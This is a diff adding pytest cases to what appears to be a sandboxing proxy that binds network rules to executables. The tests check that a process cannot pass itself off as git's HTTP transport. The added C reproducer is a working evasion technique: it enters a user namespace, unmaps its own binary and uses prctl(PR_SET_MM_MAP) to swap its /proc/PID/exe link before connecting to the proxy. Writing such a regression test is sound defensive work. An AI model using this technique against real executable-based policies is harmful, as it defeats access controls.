@@ -162,3 +162,151 @@ def test_report_mode_under_a_managed_rule_bound_to_git_does_not_let_curl_through
     )  # fmt: skip
     assert result.returncode != 0
     assert "rule 'wide'" in result.stderr and f"only for {GIT_HTTP}" in result.stderr
+
+
+# A process that names another file as its executable: in a user namespace of its own it holds
+# CAP_SYS_ADMIN, and prctl(PR_SET_MM, PR_SET_MM_MAP) with an exe_fd replaces its mm's exe file
+# (the kernel's /proc/PID/exe, device and inode included) once its own executable is unmapped.
+# The code that unmaps it runs from an anonymous copy of itself, with raw system calls only.
+EXE_LINK_C = r"""
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+#include <sys/mman.h>
+#include <sys/prctl.h>
+#include <sys/syscall.h>
+#include <linux/prctl.h>
+#include <netinet/in.h>
+
+struct ctx {
+    struct prctl_mm_map map;
+    unsigned long ranges[64][2];
+    int nranges;
+    struct sockaddr_in addr;
+    char req[512];
+    long reqlen;
+    char resp[512];
+};
+
+static inline __attribute__((always_inline)) long sc(long n, long a, long b, long c, long d) {
+    long ret;
+    register long r10 __asm__("r10") = d;
+    register long r8 __asm__("r8") = 0;  /* prctl(PR_SET_MM) refuses a fifth argument */
+    __asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
+                     : "rcx", "r11", "memory");
+    return ret;
+}
+
+__attribute__((section("payload_sec"), noinline, used)) void payload(struct ctx *c) {
+    for (int i = 0; i < c->nranges; i++)
+        sc(SYS_munmap, c->ranges[i][0], c->ranges[i][1] - c->ranges[i][0], 0, 0);
+    long rc = sc(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, (long)&c->map, sizeof(c->map));
+    char tag = rc == 0 ? 'S' : 'N';  /* spoofed, or not */
+    sc(SYS_write, 2, (long)&tag, 1, 0);
+    long s = sc(SYS_socket, AF_INET, SOCK_STREAM, 0, 0);
+    sc(SYS_connect, s, (long)&c->addr, sizeof(c->addr), 0);
+    sc(SYS_write, s, (long)c->req, c->reqlen, 0);
+    long n = sc(SYS_read, s, (long)c->resp, sizeof(c->resp), 0);
+    if (n > 0) sc(SYS_write, 1, (long)c->resp, n, 0);
+    sc(SYS_exit_group, 0, 0, 0, 0);
+}
+
+extern char __start_payload_sec[], __stop_payload_sec[];
+
+int main(int argc, char **argv) {
+    int fd = open(argv[1], O_RDONLY | O_CLOEXEC);
+    int nested = fd >= 0 && unshare(CLONE_NEWUSER) == 0;
+    struct ctx *c = mmap(NULL, sizeof(*c), PROT_READ | PROT_WRITE,
+                         MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    char buf[4096], *save, *tok;
+    FILE *f = fopen("/proc/self/stat", "r");
+    size_t len = fread(buf, 1, sizeof buf - 1, f);
+    buf[len] = 0;
+    fclose(f);
+    unsigned long v[64] = {0};
+    int k = 3;
+    for (tok = strtok_r(strrchr(buf, ')') + 2, " ", &save); tok && k < 64;
+         tok = strtok_r(NULL, " ", &save), k++)
+        v[k] = strtoul(tok, NULL, 10);
+    c->map.start_code = v[26]; c->map.end_code = v[27]; c->map.start_stack = v[28];
+    c->map.start_data = v[45]; c->map.end_data = v[46]; c->map.start_brk = v[47];
+    c->map.arg_start = v[48]; c->map.arg_end = v[49];
+    c->map.env_start = v[50]; c->map.env_end = v[51];
+    c->map.brk = (unsigned long)sbrk(0);
+    c->map.exe_fd = fd;
+    char self[4096], line[8192];
+    ssize_t sl = readlink("/proc/self/exe", self, sizeof self - 1);
+    self[sl > 0 ? sl : 0] = 0;
+    f = fopen("/proc/self/maps", "r");
+    while (nested && fgets(line, sizeof line, f) && c->nranges < 64) {
+        unsigned long a, b;
+        char path[4096] = "";
+        if (sscanf(line, "%lx-%lx %*s %*s %*s %*s %4095s", &a, &b, path) >= 2
+            && strcmp(path, self) == 0) {
+            c->ranges[c->nranges][0] = a;
+            c->ranges[c->nranges][1] = b;
+            c->nranges++;
+        }
+    }
+    fclose(f);
+    c->addr.sin_family = AF_INET;
+    c->addr.sin_port = htons(3128);
+    c->addr.sin_addr.s_addr = htonl(0x7f000001);
+    c->reqlen = snprintf(c->req, sizeof c->req,
+                         "GET http://%s/spoofed HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n",
+                         argv[2], argv[2]);
+    size_t plen = __stop_payload_sec - __start_payload_sec;
+    void *code = mmap(NULL, plen, PROT_READ | PROT_WRITE | PROT_EXEC,
+                      MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    memcpy(code, __start_payload_sec, plen);
+    fflush(NULL);
+    ((void (*)(struct ctx *))code)(c);
+    return 0;
+}
+"""
+
+
+@pytest.mark.skipif(not os.path.exists(GIT_HTTP), reason="git's HTTP transport is not installed")
+@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the reproducer is x86-64 code")
+def test_a_process_cannot_name_the_bound_program_as_its_executable_from_a_user_namespace(
+    setup: tuple[Path, FakeDns, Upstream], tmp_path: Path
+) -> None:
+    """prctl(PR_SET_MM_MAP) needs capabilities only in the caller's own user namespace, which any
+    process can create: under a policy that binds rules to executables the sandbox can create none,
+    so the kernel's executable link stays the file the process was started from."""
+    compiler = shutil.which("cc") or shutil.which("gcc")
+    if compiler is None:
+        pytest.skip("no C compiler")
+    source, binary = tmp_path / "exe_link.c", tmp_path / "exe_link"
+    source.write_text(EXE_LINK_C)
+    subprocess.run(
+        [compiler, "-O2", "-static", "-fno-stack-protector", "-fcf-protection=none",
+         "-o", str(binary), str(source)],
+        check=True, capture_output=True, timeout=60,
+    )  # fmt: skip
+    policy, dns, upstream = setup
+    log = tmp_path / "decisions.jsonl"
+    out = _run(policy, dns, log, f"{binary} {GIT_HTTP} allowed.test:{upstream.port} 2>&1")
+    assert upstream.requests == []  # nothing arrived
+    assert out.startswith("N"), out  # the process never named git as its executable
+    assert " 403 " in out.splitlines()[0]
+    assert _refusals(log) == [(str(binary), "executable-not-allowed")]
+
+
+def test_only_a_policy_that_binds_executables_keeps_user_namespaces_out_of_the_sandbox(
+    fake_dns: FakeDns, setup: tuple[Path, FakeDns, Upstream], tmp_path: Path
+) -> None:
+    bound, _, upstream = setup
+    unbound = tmp_path / "open.yaml"
+    unbound.write_text(
+        "version: 1\nallow_internal: [127.0.0.0/8]\nrules:\n  - name: t\n"
+        f"    hosts: [allowed.test]\n    ports: [{upstream.port}]\n"
+    )
+    probe = f"{sys.executable} -I -c 'import os; os.unshare(os.CLONE_NEWUSER); print(\"created\")'"
+    log = tmp_path / "decisions.jsonl"
+    assert _run(unbound, fake_dns, log, probe).strip() == "created"  # nested sandboxes still work
+    assert "created" not in _run(bound, fake_dns, log, f"{probe} 2>/dev/null; true")
